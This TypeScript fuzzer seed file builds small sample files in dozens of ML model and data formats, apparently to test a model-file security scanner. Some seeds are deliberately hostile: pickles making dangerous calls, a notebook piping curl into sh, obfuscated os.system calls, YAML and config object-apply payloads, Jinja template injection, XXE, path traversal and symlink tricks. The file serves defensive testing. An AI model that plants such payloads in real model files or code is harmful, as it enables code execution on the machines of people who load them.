// Small valid files, at least one of each format: what mutation starts from.
import { gzipSync } from 'node:zlib'
import { arrowFile, arrowSchema, flatBuffer as slots, join, parquet, u32 } from '../artifacts/dataset-builder.js'
import { attack, bytes as pickled, called, name, proto, stackName, stop, text as pickleText } from '../artifacts/pickle-builder.js'
import { buildTar } from '../artifacts/tar-builder.js'
import { concat, Gguf, hardLink, hdf5, safetensors, text, textAttribute } from '../artifacts/tensors-builder.js'
import { bytes, callingPickle, flatBuffer as tables, flaxArray, npy, pack, zipOf, type Node, type Packable } from '../artifacts/torch-bytes.js'
import { bytes as wire, field, flatBuffer, type Part } from '../artifacts/wire-maker.js'
import { buildZip } from '../artifacts/zip-builder.js'
import type { Seed } from './fuzz.js'

const json = (value: unknown): Uint8Array => text(JSON.stringify(value))
const words32 = (...values: number[]): Uint8Array => new Uint8Array(Uint32Array.from(values).buffer)
const words64 = (...values: number[]): Uint8Array => new Uint8Array(BigUint64Array.from(values.map(BigInt)).buffer)

/** A pickle whose first call is dangerous, and what may come after it. */
export const dangerousCall: Uint8Array = pickled(proto(2), attack, '0')

export const pickles: readonly Uint8Array[] = [
  pickled(dangerousCall, '}', 'q', 0, '(', pickleText('w'), 'K', 7, 'u', stop),
  pickled(proto(4), 0x95, [20, 0, 0, 0, 0, 0, 0, 0], stackName('collections', 'OrderedDict'), 0x94, ')', 'R', 0x94, stop),
  pickled(called(name('builtins', 'getattr'), name('os', 'path'), pickleText('join')), stop),
  pickled('(lp0\n', 'S\'orchard\'\np1\n', 'aI01\na(dp2\n', 'Vkey\np3\n', 'F1.5\ns', 'a', stop),
  pickled(proto(3), 'C', 4, 'abcd', '\x85', '0', name('numpy.core.multiarray', '_reconstruct'), '(', name('numpy', 'ndarray'), 'K', 0, '\x85', 'C', 1, 'b', 't', 'R', '(', 'K', 1, 'K', 3, '\x85', 'N', '\x89', 'C', 3, 'xyz', 't', 'b', stop),
]

const keras = {
  module: 'keras', class_name: 'Sequential', registered_name: null, compile_config: { loss: 'mse' }, config: { name: 'orchard', layers: [
    { module: 'keras.layers', class_name: 'Dense', config: { name: 'd', units: 4, activation: 'relu' }, registered_name: null },
    { module: 'keras.layers', class_name: 'Lambda', config: { name: 'l', function: { class_name: '__lambda__', config: { code: '4wAAAAA=', defaults: null, closure: null } } }, registered_name: null },
  ] },
}

const operator: Node = { table: [{ to: { text: 'aten::add' } }, { to: { text: 'out' } }] }
const plan: Node = { table: [{ to: { text: 'forward' } }, undefined, undefined, undefined, undefined, undefined, { to: { vector: [operator] } }, { to: { vector: [{ table: [{ to: { text: 'XnnpackBackend' } }] }] } }] }

const node = (op: string, ...more: Part[]): Uint8Array => field(1, [field(1, 'x'), field(2, 'y'), field(4, op), ...more])
const onnxModel = wire(field(1, 10), field(2, 'orchard'), field(7, [
  node('MatMul'), node('If', field(5, [field(1, 'then'), field(6, [node('Relu')])])), field(2, 'g'),
  field(5, [field(1, 4), field(1, 8), field(2, 1), field(8, 'w'), field(13, [field(1, 'location'), field(2, '../w.bin')]), field(14, 1)]), field(11, [field(1, 'in')]),
]), field(8, [field(1, ''), field(2, 21)]), field(14, [field(1, 'note'), field(2, 'see README')]))

const graphNode = (label: string, op: string): Part => [field(1, label), field(2, op), field(5, [field(1, 'dtype'), field(2, field(6, 7))])]
const savedModel = wire(field(1, 1), field(2, [field(1, [field(4, 'serve'), field(5, '2.16.1')]), field(2, [field(1, graphNode('x', 'Placeholder')), field(1, graphNode('f', 'ReadFile')), field(2, field(1, [field(1, [field(1, 'fn')]), field(3, graphNode('e', 'PyFunc'))]))])]))
const coreml = wire(field(1, 5), field(2, [field(1, [field(1, 'x'), field(3, field(5, [field(1, 4), field(2, 65_568)]))])]), field(500, [field(1, [field(1, 'layer'), field(500, field(10, 'Swish'))])]))
const paddle = wire(field(1, [field(1, 0), field(2, -1), field(3, [field(1, 'x'), field(2, [field(1, 7)])]), field(4, [field(1, [field(1, 'X'), field(2, 'x')]), field(3, 'py_func'), field(4, [field(1, 'path'), field(2, 2), field(5, '/etc/x')])])]), field(4, field(1, 2)))

const booster = { learner: {
  attributes: {}, feature_names: ['age'], feature_types: [], gradient_booster: { model: { gbtree_model_param: { num_parallel_tree: '1', num_trees: '1' }, tree_info: [0], trees: [{
    base_weights: [0, 1, 2], id: 0, left_children: [1, -1, -1], parents: [2_147_483_647, 0, 0], right_children: [2, -1, -1], split_conditions: [1, 2, 3], split_indices: [0, 0, 0], sum_hessian: [1, 2, 3],
    tree_param: { num_deleted: '0', num_feature: '1', num_nodes: '3', size_leaf_vector: '1' },
  }] }, name: 'gbtree' }, learner_model_param: { base_score: '0', num_class: '0', num_feature: '1' }, objective: { name: 'binary:logistic' },
}, version: [2, 1, 4] }

const big32 = (...values: number[]): Uint8Array => concat(...values.map((value) => Uint8Array.of((value >>> 24) & 255, (value >>> 16) & 255, (value >>> 8) & 255, value & 255)))
/** A closure with a promise in a pairlist. */
const rObject = concat(text('X\n'), big32(3, 0x0004_0203, 0x0003_0500, 5), text('UTF-8'), big32(19, 2, 13, 1, 7, 5, 253, 6, 1, 9, 6), text('system'), big32(2, 16, 1, 9, 4), text('echo'), big32(254))

const gguf = new Gguf({ data: 64 }).file([
  ['general.architecture', new Gguf().string('llama')], ['general.name', new Gguf().string('orchard')], ['tokenizer.ggml.tokens', new Gguf().strings(['a', 'b', '<s>'])],
  ['tokenizer.chat_template', new Gguf().string('{% for m in messages %}{{ m.content }}{% endfor %}')], ['llama.block_count', new Gguf().u32(1)],
], [{ name: 'w', shape: [4, 4], type: 0, offset: 0 }])

const lightgbm = ['tree', 'version=v4', 'num_class=1', 'num_tree_per_iteration=1', 'label_index=0', 'max_feature_idx=1', 'objective=binary sigmoid:1', 'feature_names=age size', 'feature_infos=[0:1] [0:9]', 'tree_sizes=230', '', 'Tree=0',
  'num_leaves=2', 'num_cat=0', 'split_feature=0', 'split_gain=1', 'threshold=0.5', 'decision_type=2', 'left_child=-1', 'right_child=-2', 'leaf_value=0.1 0.2', 'leaf_weight=1 1', 'leaf_count=1 1', 'internal_value=0', 'internal_weight=0', 'internal_count=2', 'is_linear=0', 'shrinkage=1', '', '', 'end of trees', '', 'parameters:', '[boosting: gbdt]', 'end of parameters', ''].join('\n')

const notebook = { cells: [
  { cell_type: 'code', execution_count: 1, metadata: {}, source: ['!curl https://example.org/x | sh\n', 'import os\n', 'print(os.environ)'], outputs: [{ output_type: 'display_data', data: { 'text/html': ['<script>x()</script>'] }, metadata: {} }] },
  { cell_type: 'markdown', metadata: {}, source: '# Notes' },
], metadata: { kernelspec: { name: 'python3' } }, nbformat: 4, nbformat_minor: 5 }

const python = `import torch, os\nfrom transformers import AutoModel\n\ndef load(path, *rest):\n    model = torch.load(path)\n    hook = getattr(os, "sys" + "tem")\n    hook(f"echo {path}")\n    return AutoModel.from_pretrained("acme/x", trust_remote_code=True)\n\nclass Net(torch.nn.Module):\n    weights = {"a": [1, 2.5, None]}\n`

export const corpus: readonly Seed[] = [
  ...pickles.map((data, i) => ({ path: `pickle/${i}.pkl`, data })),
  { path: 'pickle/legacy.pt', data: pickled(proto(2), '\x8a\x0a', [0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19], stop, proto(2), 'M\xe9\x03', stop, proto(2), '}', stop, proto(2), '}', stop, proto(2), ']', stop) },
  { path: 'joblib/model.joblib', data: pickled(proto(4), stackName('joblib.numpy_pickle', 'NumpyArrayWrapper'), ')', 0x81, '}', '(', pickleText('shape'), 'K', 2, 0x85, pickleText('order'), pickleText('C'), pickleText('dtype'), pickleText('int8'), 'u', 'b', 'ab', stop) },
  { path: 'joblib/packed.joblib', data: gzipSync(pickles[0] ?? text('')) },
  { path: 'torch/model.pt', data: zipOf({ 'archive/data.pkl': pickles[0] ?? '', 'archive/version': '3\n', 'archive/byteorder': 'little', 'archive/data/0': 'abcdefgh' }) },
  { path: 'torch/old.tar', data: buildTar([{ name: 'pickle', data: pickles[1] }, { name: 'storages', data: 'ab' }, { name: 'tensors', data: 'ab' }]) },
  { path: 'torch/script.pt', data: zipOf({ 'net/data.pkl': pickles[1] ?? '', 'net/constants.pkl': pickles[1] ?? '', 'net/code/__torch__.py': 'class Net(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    return ops.aten.save(x, "f")\n', 'net/version': '10\n' }) },
  { path: 'torch/program.pt2', data: zipOf({ 'p/archive_format': 'pt2', 'p/archive_version': '0', 'p/models/model.json': '{"graph_module":{}}', 'p/data/weights/model_weights_config.json': '{"config":{"w":{"path_name":"weight_0","use_pickle":true}}}', 'p/data/weights/weight_0': pickles[0] ?? '' }) },
  { path: 'torch/serve.mar', data: zipOf({ 'MAR-INF/MANIFEST.json': '{"model":{"modelName":"m","handler":"h.py","requirementsFile":"r.txt"}}', 'h.py': 'import os\nos.system("echo")\n' }) },
  { path: 'torch/program.pte', data: tables({ table: [{ scalar: [0, 0, 0, 0] }, { to: { vector: [plan] } }, undefined, { to: { vector: [] } }, { to: { vector: [] } }] }, 'ET12') },
  { path: 'keras/model.keras', data: zipOf({ 'metadata.json': '{"keras_version":"3.11.3"}', 'config.json': JSON.stringify(keras), 'model.weights.h5': '' }) },
  { path: 'keras/model.h5', data: hdf5(() => [[textAttribute('model_config', JSON.stringify(keras)), textAttribute('keras_version', '2.15.0')]]) },
  { path: 'hdf5/linked.h5', data: hdf5((address) => [[hardLink('a', address(1)), textAttribute('title', 'orchard')], [textAttribute('units', 'm')]]) },
  { path: 'skops/model.skops', data: zipOf({ 'schema.json': JSON.stringify({ __class__: 'Pipeline', __module__: 'sklearn.pipeline', __loader__: 'ObjectNode', content: { __class__: 'dict', __module__: 'builtins', __loader__: 'DictNode', content: { f: { __class__: 'system', __module__: 'os', __loader__: 'FunctionNode', content: {} } } }, protocol: 2, _skops_version: '0.13.0' }), 'a.npy': npy('{\'descr\': \'<f8\', \'fortran_order\': False, \'shape\': (1,), }', new Uint8Array(8)) }) },
  { path: 'nemo/model.nemo', data: buildTar([{ name: './model_config.yaml', data: 'target: nemo.collections.asr.models.X\nnested:\n  _target_: os.system\n' }, { name: './weights.ckpt', data: pickles[1] }]) },
  { path: 'numpy/a.npy', data: npy('{\'descr\': \'|O\', \'fortran_order\': False, \'shape\': (1,), }', callingPickle()) },
  { path: 'numpy/a.npz', data: zipOf({ 'x.npy': npy('{\'descr\': \'<f4\', \'fortran_order\': False, \'shape\': (2,), }', new Uint8Array(8)) }) },
  { path: 'flax/model.msgpack', data: pack(new Map<string, Packable>([['params', new Map<string, Packable>([['kernel', flaxArray([2, 3], 'float32', new Uint8Array(24))]])], ['step', 7]])) },
  { path: 'safetensors/model.safetensors', data: safetensors({ __metadata__: { format: 'pt' }, a: { dtype: 'F32', shape: [2], data_offsets: [0, 8] }, b: { dtype: 'F16', shape: [2, 2], data_offsets: [8, 16] } }, 16) },
  { path: 'safetensors/model.safetensors.index.json', data: json({ metadata: { total_size: 16 }, weight_map: { a: 'model-00001-of-00002.safetensors', b: '../x.safetensors' } }) },
  { path: 'gguf/model.gguf', data: gguf },
  { path: 'gguf/old.bin', data: bytes('tjgg', [3, 0, 0, 0], new Uint8Array(40)) },
  { path: 'gguf/model.llamafile', data: concat(text('MZqFpD=\'\n'), new Uint8Array(4096), zipOf({ '.args': '-m\nmodel.gguf\n', 'model.gguf': gguf })) },
  { path: 'ollama/Modelfile', data: text('FROM ./model.gguf\nADAPTER ../lora.bin\nSYSTEM """You help."""\nTEMPLATE "{{ .Prompt }}"\nPARAMETER stop "</s>"\n') },
  { path: 'manifests/registry.ollama.ai/library/m/latest', data: json({ schemaVersion: 2, mediaType: 'application/vnd.docker.distribution.manifest.v2+json', config: { mediaType: 'application/vnd.docker.container.image.v1+json', digest: `sha256:${'ab'.repeat(32)}`, size: 5 }, layers: [{ mediaType: 'application/vnd.ollama.image.model', digest: `sha256:${'cd'.repeat(32)}`, size: 10 }] }) },
  { path: 'onnx/model.onnx', data: onnxModel },
  { path: 'tensorflow/saved_model.pb', data: savedModel },
  { path: 'tensorflow/saved_model.pbtxt', data: text('saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node {\n      name: "f"\n      op: "ReadFile"\n    }\n  }\n}\n') },
  { path: 'tflite/model.tflite', data: flatBuffer([3, { tables: [[{ u8: 32 }, 'Own', 1, 32]] }, { tables: [[{ tables: [[{ i32s: [1, 4] }, { u8: 0 }, 1, 'in']] }, { i32s: [0] }, { i32s: [0] }, { tables: [[0, { i32s: [0] }, { i32s: [0] }]] }]] }, 'made by hand', { tables: [[], [new Uint8Array(16)]] }], 'TFL3') },
  { path: 'coreml/model.mlmodel', data: coreml },
  { path: 'coreml/x.mlpackage/Manifest.json', data: json({ fileFormatVersion: '1.0.0', itemInfoEntries: { a: { path: '../../x' } }, rootModelIdentifier: 'a' }) },
  { path: 'paddle/inference.pdmodel', data: paddle },
  { path: 'paddle/inference.json', data: json({ base_code: { magic: 'pir', trainable: true, version: 1 }, program: { regions: [{ '#': 'region_0', blocks: [{ '#': 'block_0', args: [], ops: [{ '#': '1.py_func' }] }] }] } }) },
  { path: 'mxnet/rank-symbol.json', data: json({ nodes: [{ op: 'null', name: 'data', inputs: [] }, { op: 'Custom', name: 'l', attrs: { op_type: 'x' } }], arg_nodes: [0], heads: [[1, 0, 0]], attrs: { mxnet_version: ['int', 10_901] } }) },
  { path: 'mxnet/rank-0000.params', data: wire(words64(0x112, 0, 1), words32(0xf9_93_fa_c9, 0, 2), words64(2, 3), words32(1, 0, 0), new Uint8Array(24), words64(1, 5), text('arg:w')) },
  { path: 'tensorrt/detect.engine', data: wire(text('ftrt'), words32(0x61), new Uint8Array(24), Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 62, 0), new Uint8Array(44), text(' libx.so.3\n')) },
  { path: 'openvino/model.xml', data: text('<?xml version="1.0"?><net name="rank" version="11"><layers><layer id="0" name="c" type="Const" version="opset1"><data offset="0" size="16" element_type="f32"/></layer></layers><rt_info><Runtime_version value="2025.1"/></rt_info></net>') },
  { path: 'pmml/churn.pmml', data: text('<!DOCTYPE PMML [<!ENTITY f SYSTEM "file:///x">]><PMML version="4.4"><Header><Application name="JPMML" version="1.8"/></Header><TreeModel><Extension value="repr">plain</Extension><Apply function="com.example.Score"/></TreeModel></PMML>') },
  { path: 'xgboost/model.json', data: json(booster) },
  { path: 'xgboost/model.ubj', data: join('{L', [0, 0, 0, 0, 0, 0, 0, 7], 'learner', '{L', [0, 0, 0, 0, 0, 0, 0, 10], 'attributes{}', 'L', [0, 0, 0, 0, 0, 0, 0, 13], 'feature_names', '[#L', [0, 0, 0, 0, 0, 0, 0, 0], '}', '}') },
  { path: 'xgboost/old.model', data: concat(text('binf'), new Uint8Array(160)) },
  { path: 'lightgbm/model.txt', data: text(lightgbm) },
  { path: 'catboost/model.cbm', data: ((core) => join('CBM1', u32(core.length), core))(slots({ slots: ['FlabuffersModel_v1', { slots: [1, null, [{ slots: [] }], null, null, [{ slots: [] }]] }, [{ slots: ['params', '{"loss_function":{"type":"Logloss"}}'] }], null] })) },
  { path: 'r/model.rds', data: rObject },
  { path: 'r/packed.RData', data: gzipSync(concat(text('RDX3\n'), rObject)) },
  { path: 'data/train.parquet', data: parquet(['write to ada', 'nothing']) },
  { path: 'data/train.arrow', data: arrowFile(arrowSchema({ text: { 'ARROW:extension:name': 'arrow.py_extension_type' } })) },
  { path: 'data/train.csv', data: text(`id,text,url\n${'1,hello,https://example.org/a\n'.repeat(60)}`) },
  { path: 'data/train.jsonl', data: text('{"prompt":"a","completion":"b"}\n{"prompt":"c","completion":"d"}\n') },
  { path: 'data/train.json', data: json([{ instruction: 'a', output: 'b' }, { instruction: 'c', output: 'd' }]) },
  { path: 'notebooks/a.ipynb', data: json(notebook) },
  { path: 'code/load.py', data: text(python) },
  { path: 'repo/tokenizer.json', data: json({ version: '1.0', truncation: null, padding: null, added_tokens: [{ id: 0, content: '<s>', special: true }], normalizer: { type: 'Replace', pattern: { Regex: '(a+)+$' }, content: '' }, model: { type: 'BPE', vocab: { a: 0 }, merges: [] } }) },
  { path: 'repo/chat_template.jinja', data: text('{%- for m in messages %}{% if m.role == "user" %}{{ bos_token ~ m["content"] }}{% endif %}{{ cycler.__init__.__globals__ }}{%- endfor %}') },
  { path: 'repo/tokenizer_config.json', data: json({ chat_template: '{{ messages[0].content }}', bos_token: '<s>' }) },
  { path: 'repo/adapter_config.json', data: json({ peft_type: 'LORA', base_model_name_or_path: 'acme/base', revision: null, modules_to_save: ['lm_head'] }) },
  { path: 'repo/conf.yaml', data: text('model:\n  _target_: os.system\n  args: ["echo"]\nx: !!python/object/apply:os.system ["echo"]\nbase: &b {a: 1}\ny:\n  <<: *b\n') },
  { path: 'repo/requirements.txt', data: text('torch==2.0.0\nkeras>=2,<3 ; python_version > "3.8"\ntransformers\n-r more.txt\n') },
  { path: 'repo/bom.json', data: json({ bomFormat: 'CycloneDX', specVersion: '1.6', components: [{ type: 'machine-learning-model', name: 'm', version: '1', modelCard: {} }] }) },
  { path: 'repo/MLmodel', data: text('artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n    env: conda.yaml\nmlflow_version: 2.9.0\nmodel_uuid: ab\n') },
  { path: 'repo/weights.safetensors', data: text('version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n') },
  { path: 'archives/a.zip', data: buildZip([{ name: 'm.pkl', data: pickles[0] ?? '', method: 8 }, { name: 'b.txt', data: 'hello', descriptor: 'marked' }, { name: 'l', data: '/etc', mode: 0o120777 }], { comment: 'c' }) },
  { path: 'archives/zip64.zip', data: buildZip([{ name: 'm.pkl', data: pickles[1] ?? '' }], { zip64: {} }) },
  { path: 'archives/a.tar', data: buildTar([{ name: 'm.pkl', data: pickles[0], pax: { path: 'long/m.pkl' } }, { name: 'l', type: '2', target: '../../x' }, { name: 'n', longName: 'n'.repeat(120), data: 'x' }]) },
  { path: 'archives/a.tar.gz', data: gzipSync(buildTar([{ name: 'm.pkl', data: pickles[0] }])) },
  { path: 'archives/a.bin', data: Uint8Array.from({ length: 64 }, (_, i) => (i * 37) & 255) },
]
